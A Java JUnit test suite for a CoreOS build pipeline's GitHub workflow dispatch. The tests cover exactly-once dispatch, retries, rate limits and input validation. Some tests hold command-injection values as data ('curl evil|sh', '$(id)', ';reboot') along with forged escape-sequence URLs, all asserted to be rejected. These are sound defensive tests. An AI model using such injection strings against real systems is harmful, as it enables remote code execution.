package dev.coreoswatch.pipeline;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.http.Fault;
import com.github.tomakehurst.wiremock.stubbing.Scenario;
import dev.coreoswatch.github.GitHubApi;
import dev.coreoswatch.github.WorkflowDispatchClient;
import dev.coreoswatch.github.WorkflowRuns;
import dev.coreoswatch.http.Http;
import dev.coreoswatch.http.JdkHttp;
import dev.coreoswatch.http.RetryPolicy;
import dev.coreoswatch.http.RetryingHttp;
import dev.coreoswatch.ledger.FileLedger;
import dev.coreoswatch.ledger.LedgerKey;
import dev.coreoswatch.ledger.LedgerStatus;
import dev.coreoswatch.model.Action;
import dev.coreoswatch.model.Arch;
import dev.coreoswatch.model.ArchResult;
import dev.coreoswatch.model.Compatibility;
import dev.coreoswatch.model.Decision;
import dev.coreoswatch.model.DispatchResult;
import dev.coreoswatch.model.DispatchStatus;
import dev.coreoswatch.model.Secret;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Dispatch exactly once, against a WireMock GitHub under an Enterprise-style base path. */
class DispatchTest {
    private static final String TOKEN = "ghp_CANARY0dispatch0token0must0never0show";
    private static final String REPO = "acme/fcos-builds";
    private static final String DISPATCHES = "/api/v3/repos/acme/fcos-builds/actions/workflows/build.yaml/dispatches";
    private static final String RUNS = "/api/v3/repos/acme/fcos-builds/actions/workflows/build.yaml/runs";
    private static final String IMAGE = "ghcr.io/acme/custom-coreos";
    /** target.tag {@code {stream}-zfs}: the tag input is the inspected tag, not the stream. */
    private UnaryOperator<String> tagForStream = stream -> stream + "-zfs";
    private static final String TITLE = "build testing 43.20260316.2.1 zfs 2.3.7";

    private static WireMockServer github;

    @TempDir
    Path state;

    private final List<Duration> waits = new CopyOnWriteArrayList<>();
    private Instant now = Instant.parse("2026-03-20T08:00:00Z");

    @BeforeAll
    static void start() {
        github = new WireMockServer(options().bindAddress("127.0.0.1").dynamicPort());
        github.start();
    }

    @AfterAll
    static void stop() {
        github.stop();
    }

    @BeforeEach
    void reset() {
        github.resetAll();
        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson("{\"total_count\":0,\"workflow_runs\":[]}")));
    }

    private Dispatch dispatch(Duration readTimeout) {
        Clock clock = new Clock() {
            @Override
            public ZoneOffset getZone() {
                return ZoneOffset.UTC;
            }

            @Override
            public Clock withZone(java.time.ZoneId zone) {
                return this;
            }

            @Override
            public Instant instant() {
                return now;
            }
        };
        RetryPolicy policy = new RetryPolicy(3, Duration.ofMillis(1), Duration.ofMillis(2), Duration.ofSeconds(30), Duration.ofMinutes(5));
        Http http = new RetryingHttp(new JdkHttp(new Http.Limits(Duration.ofSeconds(2), readTimeout, 1 << 20)), policy, clock, waits::add);
        GitHubApi api = new GitHubApi(http, URI.create(github.baseUrl() + "/api/v3"), () -> Optional.of(new Secret(TOKEN)));
        return new Dispatch(Optional.of(new FileLedger(state)), new WorkflowDispatchClient(api), new WorkflowRuns(api),
                Optional.of(new WorkflowTarget(REPO, "build.yaml", "main")), Duration.ofHours(3), clock, tagForStream);
    }

    private Dispatch dispatch() {
        return dispatch(Duration.ofSeconds(5));
    }

    private static Decision build() {
        return new Decision("testing", "43.20260316.2.1", "2.3.7", Action.BUILD,
                "linux/amd64 of ghcr.io/acme/custom-coreos:testing carries coreos 43.20260302.2.0",
                List.of(new ArchResult(Arch.X86_64, "6.19.6-200.fc43.x86_64", Compatibility.COMPATIBLE, "4.18-7.0", null, false),
                        new ArchResult(Arch.AARCH64, null, Compatibility.UNKNOWN, "4.18-7.0", null, false)),
                DispatchResult.NONE, List.of());
    }

    private static LedgerKey key() {
        return LedgerKey.of(IMAGE, "testing", "43.20260316.2.1", "2.3.7");
    }

    private static String runsWith(String status) {
        return "{\"total_count\":2,\"workflow_runs\":[{\"id\":777,\"name\":\"build\",\"display_title\":\"build stable 44.1 zfs 2.4.4\","
                + "\"status\":\"completed\",\"conclusion\":\"success\",\"html_url\":\"https://github.com/acme/fcos-builds/actions/runs/777\"},"
                + "{\"id\":31337,\"name\":\"build\",\"display_title\":\"" + TITLE + "\",\"status\":\"" + status + "\","
                + "\"conclusion\":null,\"html_url\":\"https://github.com/acme/fcos-builds/actions/runs/31337\"}]}";
    }

    @Test
    void sendsExactlyTheContractBodyAndHeadersAndRecordsTheRun() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(okJson(
                "{\"workflow_run_id\":4242,\"run_url\":\"https://api.github.com/repos/acme/fcos-builds/actions/runs/4242\","
                        + "\"html_url\":\"" + github.baseUrl() + "/acme/fcos-builds/actions/runs/4242\"}")));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "corr-1");

        assertEquals(Action.BUILD, result.decision().action());
        // The API is an Enterprise Server at <base>/api/v3, so its runs live at <base>/<owner>/<repo>/actions/runs/<id>.
        assertEquals(new DispatchResult(DispatchStatus.DISPATCHED, 4242L, github.baseUrl() + "/acme/fcos-builds/actions/runs/4242"),
                result.decision().dispatch());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES))
                .withHeader("Authorization", equalTo("Bearer " + TOKEN))
                .withHeader("X-GitHub-Api-Version", equalTo("2022-11-28"))
                .withHeader("Accept", equalTo("application/vnd.github+json"))
                .withHeader("Content-Type", equalTo("application/json"))
                .withRequestBody(equalToJson("{\"ref\":\"main\",\"return_run_details\":true,\"inputs\":{"
                        + "\"stream\":\"testing\",\"coreos_version\":\"43.20260316.2.1\",\"zfs_version\":\"2.3.7\","
                        + "\"kernel_versions\":\"x86_64=6.19.6-200.fc43.x86_64,aarch64=unknown\","
                        + "\"platforms\":\"linux/amd64,linux/arm64\","
                        + "\"reason\":\"linux/amd64 of ghcr.io/acme/custom-coreos:testing carries coreos 43.20260302.2.0\","
                        + "\"image\":\"ghcr.io/acme/custom-coreos\",\"tag\":\"testing-zfs\"}}")));
        var entry = new FileLedger(state).find(key()).orElseThrow();
        assertEquals(LedgerStatus.DISPATCHED, entry.status());
        assertEquals(4242L, entry.runId());
    }

    /** D2: an html_url with escape sequences and a forged line is neither reported nor stored. */
    @Test
    void aRunUrlOutsideGitHubsShapeIsDropped() {
        String forged = github.baseUrl() + "/acme/fcos-builds/actions/runs/4242\u001b[2K\r\nstable: SKIP";
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(okJson(
                "{\"workflow_run_id\":4242,\"html_url\":\"" + forged.replace("\u001b", "\\u001b").replace("\r\n", "\\r\\n") + "\"}")));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "corr-1");

        assertEquals(new DispatchResult(DispatchStatus.DISPATCHED, 4242L, null), result.decision().dispatch());
        var entry = new FileLedger(state).find(key()).orElseThrow();
        assertEquals(4242L, entry.runId());
        assertNull(entry.runUrl());
    }

    /** D2: another repository's run, or a run URL on another host, is not taken either. */
    @Test
    void aRunUrlOfAnotherRepositoryOrHostIsDropped() {
        for (String url : List.of(github.baseUrl() + "/evil/fcos-builds/actions/runs/4242", "https://evil.example/acme/fcos-builds/actions/runs/4242",
                github.baseUrl() + "/acme/fcos-builds/actions/runs/4243", github.baseUrl() + "/acme/fcos-builds/actions/runs/4242/../../x")) {
            github.resetAll();
            github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(okJson("{\"workflow_run_id\":4242,\"html_url\":\"" + url + "\"}")));
            assertNull(dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().runUrl(), url);
            new FileLedger(state).release(key());
        }
    }

    @Test
    void theSameCombinationRightAfterIsInFlightAndSendsNothing() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status());
        now = now.plus(Duration.ofMinutes(30));

        Dispatch.Result again = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.IN_FLIGHT, again.decision().action());
        assertEquals(DispatchStatus.NONE, again.decision().dispatch().status());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertNull(again.decision().dispatch().runId(), "a 204 gives no run id and none is listed");
    }

    @Test
    void afterTheWindowTheCombinationCanBeDispatchedAgain() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
        dispatch().dispatch(build(), IMAGE, false, "c");
        now = now.plus(Duration.ofHours(3)).plusSeconds(1);
        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status());
        github.verify(2, postRequestedFor(urlPathEqualTo(DISPATCHES)));
    }

    @Test
    void notFoundIsAConfigurationErrorNamingRepositoryAndWorkflowAndTheClaimIsReleased() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(404).withHeader("Content-Type", "application/json")
                .withBody("{\"message\":\"Not Found\",\"documentation_url\":\"https://docs.github.com/rest/actions/workflows#create-a-workflow-dispatch-event\",\"status\":\"404\"}")));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
        String message = result.error().orElseThrow();
        assertTrue(message.contains(REPO) && message.contains("build.yaml") && message.contains("Not Found"), message);
        assertTrue(new FileLedger(state).find(key()).isEmpty(), "a definite failure frees the combination");
    }

    @Test
    void unexpectedInputsAre422WithGitHubsMessageAndALaterRunTriesAgain() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("fix").whenScenarioStateIs(Scenario.STARTED)
                .willReturn(aResponse().withStatus(422).withHeader("Content-Type", "application/json")
                        .withBody("{\"message\":\"Unexpected inputs provided: [\\\"kernel_versions\\\"]\",\"documentation_url\":"
                                + "\"https://docs.github.com/rest/actions/workflows#create-a-workflow-dispatch-event\",\"status\":\"422\"}"))
                .willSetStateTo("fixed"));
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("fix").whenScenarioStateIs("fixed")
                .willReturn(aResponse().withStatus(204)));
        Dispatch.Result first = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, first.decision().dispatch().status());
        assertTrue(first.error().orElseThrow().contains("Unexpected inputs provided"), first.error().get());

        Dispatch.Result second = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.DISPATCHED, second.decision().dispatch().status());
    }

    @Test
    void tooManyRequestsWaitsAsToldThenDispatches() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("429").whenScenarioStateIs(Scenario.STARTED)
                .willReturn(aResponse().withStatus(429).withHeader("retry-after", "7")).willSetStateTo("ok"));
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("429").whenScenarioStateIs("ok")
                .willReturn(aResponse().withStatus(204)));
        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status());
        assertEquals(List.of(Duration.ofSeconds(7)), waits);
    }

    @Test
    void spentPrimaryRateLimitWaitsUntilResetWithinTheBudget() {
        long reset = now.plusSeconds(12).getEpochSecond();
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("403").whenScenarioStateIs(Scenario.STARTED)
                .willReturn(aResponse().withStatus(403).withHeader("x-ratelimit-remaining", "0")
                        .withHeader("x-ratelimit-reset", String.valueOf(reset)).withHeader("Content-Type", "application/json")
                        .withBody("{\"message\":\"API rate limit exceeded for installation ID 61626.\",\"status\":\"403\"}"))
                .willSetStateTo("ok"));
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).inScenario("403").whenScenarioStateIs("ok")
                .willReturn(aResponse().withStatus(204)));
        assertEquals(DispatchStatus.DISPATCHED, dispatch().dispatch(build(), IMAGE, false, "c").decision().dispatch().status());
        assertEquals(List.of(Duration.ofSeconds(13)), waits);
    }

    @Test
    void rateLimitBeyondTheBudgetGivesUpAndReleasesTheClaim() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(403)
                .withHeader("x-ratelimit-remaining", "0").withHeader("x-ratelimit-reset", String.valueOf(now.plusSeconds(3600).getEpochSecond()))
                .withHeader("Content-Type", "application/json").withBody("{\"message\":\"API rate limit exceeded\",\"status\":\"403\"}")));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
        assertTrue(result.error().orElseThrow().contains("rate limit"), result.error().get());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertTrue(new FileLedger(state).find(key()).isEmpty());
    }

    @Test
    void serverErrorIsAmbiguousAndTheNextRunFindsTheRunInsteadOfDispatchingAgain() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(502).withBody("<html>Bad gateway</html>")));
        Dispatch.Result first = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, first.decision().dispatch().status());
        assertEquals(LedgerStatus.UNCERTAIN, new FileLedger(state).find(key()).orElseThrow().status());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES))); // a POST is never retried on 5xx

        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson(runsWith("in_progress"))));
        now = now.plus(Duration.ofMinutes(15));
        Dispatch.Result second = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.IN_FLIGHT, second.decision().action());
        assertEquals(31337L, second.decision().dispatch().runId());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertEquals(31337L, new FileLedger(state).find(key()).orElseThrow().runId(), "the found run is recorded");
    }

    @Test
    void readTimeoutIsAmbiguousToo() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204).withFixedDelay(1500)));
        Dispatch.Result first = dispatch(Duration.ofMillis(300)).dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, first.decision().dispatch().status());
        assertTrue(first.error().orElseThrow().contains("a run may have started"), first.error().get());
        assertEquals(LedgerStatus.UNCERTAIN, new FileLedger(state).find(key()).orElseThrow().status());

        github.resetRequests();
        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson(runsWith("queued"))));
        Dispatch.Result second = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.IN_FLIGHT, second.decision().action());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
    }

    @Test
    void connectionResetAfterSendingIsAmbiguous() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER)));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
        assertEquals(LedgerStatus.UNCERTAIN, new FileLedger(state).find(key()).orElseThrow().status());
    }

    @Test
    void aRunInFlightWithoutAnyLedgerEntryStillBlocksTheDispatch() {
        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson(runsWith("in_progress"))));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.IN_FLIGHT, result.decision().action());
        assertEquals(DispatchStatus.NONE, result.decision().dispatch().status());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
    }

    @Test
    void aCompletedRunThatLeftNoImageHoldsUntilTheWindowEnds() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(okJson("{\"workflow_run_id\":5150,\"html_url\":\"https://github.com/acme/fcos-builds/actions/runs/5150\"}")));
        dispatch().dispatch(build(), IMAGE, false, "c");
        github.stubFor(get(urlPathEqualTo("/api/v3/repos/acme/fcos-builds/actions/runs/5150")).willReturn(okJson(
                "{\"id\":5150,\"display_title\":\"" + TITLE + "\",\"status\":\"completed\",\"conclusion\":\"failure\","
                        + "\"html_url\":\"https://github.com/acme/fcos-builds/actions/runs/5150\"}")));
        now = now.plus(Duration.ofHours(1));
        Dispatch.Result held = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.HOLD, held.decision().action());
        assertTrue(held.decision().reason().contains("failure") && held.decision().reason().contains("2026-03-20T11:00:00Z"),
                held.decision().reason());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        github.verify(1, getRequestedFor(urlPathEqualTo("/api/v3/repos/acme/fcos-builds/actions/runs/5150")));
    }

    @Test
    void dryRunWritesNothingAndCallsNoWriteApi() throws Exception {
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, true, "c");
        assertEquals(DispatchStatus.DRY_RUN, result.decision().dispatch().status());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertFalse(Files.exists(state.resolve(FileLedger.FILE_NAME)));
    }

    @Test
    void anInputThatFailsItsPatternIsAnErrorAndNeverSent() {
        Decision hostile = new Decision("testing", "43.20260316.2.1", "2.3.7", Action.BUILD, "r",
                List.of(new ArchResult(Arch.X86_64, "6.19.6-200.fc43.x86_64;curl evil|sh", Compatibility.UNKNOWN, "4.18-7.0", null, false)),
                DispatchResult.NONE, List.of());
        Dispatch.Result result = dispatch().dispatch(hostile, IMAGE, false, "c");
        assertEquals(Action.ERROR, result.decision().action());
        assertTrue(result.error().orElseThrow().contains("kernel_versions"), result.error().get());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertTrue(new FileLedger(state).find(key()).isEmpty());
    }

    @ParameterizedTest
    @ValueSource(strings = {"GHCR.io/acme/custom-coreos", "ghcr.io/acme/custom-coreos:stable", "acme/custom-coreos",
            "ghcr.io/acme/custom-coreos\nx", "ghcr.io/acme/Custom-CoreOS", "ghcr.io/acme/custom-coreos$(id)"})
    void anImageInputThatIsNotARegistryAndRepositoryIsAnErrorAndNeverSent(String image) {
        Dispatch.Result result = dispatch().dispatch(build(), image, false, "c");

        assertEquals(Action.ERROR, result.decision().action());
        assertTrue(result.error().orElseThrow().contains("workflow input image"), result.error().get());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-testing", "testing zfs", "testing;reboot", ".testing", ""})
    void aTagInputThatIsNotATagIsAnErrorAndNeverSent(String tag) {
        tagForStream = stream -> tag;

        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");

        assertEquals(Action.ERROR, result.decision().action());
        assertTrue(result.error().orElseThrow().contains("workflow input tag"), result.error().get());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertTrue(new FileLedger(state).find(key()).isEmpty());
    }

    @Test
    void theTokenAppearsInNoMessageAndNoLogLine() {
        PrintStream original = System.err;
        ByteArrayOutputStream captured = new ByteArrayOutputStream();
        System.setErr(new PrintStream(captured, true));
        StringBuilder messages = new StringBuilder();
        try {
            for (int status : new int[] {401, 403, 404, 422, 500}) {
                github.resetAll();
                github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson("{\"total_count\":0,\"workflow_runs\":[]}")));
                // A hostile or broken server that echoes the Authorization header back.
                github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(status)
                        .withHeader("Content-Type", "application/json")
                        .withBody("{\"message\":\"Bad credentials: Bearer " + TOKEN + "\",\"status\":\"" + status + "\"}")));
                Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
                messages.append(result.error().orElse("")).append(result.decision().reason());
                now = now.plus(Duration.ofHours(4));
            }
        } finally {
            System.setErr(original);
        }
        assertFalse(messages.toString().contains(TOKEN), messages.toString());
        assertFalse(messages.toString().contains(TOKEN.substring(0, 12)), "not even a prefix of the token");
        assertFalse(captured.toString().contains(TOKEN.substring(0, 12)), captured.toString());
    }
}
